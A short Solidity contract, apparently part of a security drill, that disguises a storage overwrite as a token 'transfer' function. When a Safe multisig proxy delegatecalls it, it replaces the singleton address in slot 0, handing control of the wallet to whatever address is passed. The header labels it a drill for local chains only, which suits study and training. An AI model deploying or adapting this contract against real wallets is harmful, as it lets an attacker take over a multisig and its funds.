// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

/// @title SlotZeroOverwriter
/// @notice Drill attack (D3), for local chains only. Looks like a token transfer in a signing window; delegatecalled by a Safe proxy it
/// replaces the singleton in slot 0.
contract SlotZeroOverwriter {
    address private _slotZero;

    function transfer(address singleton, uint256) external {
        _slotZero = singleton;
    }
}
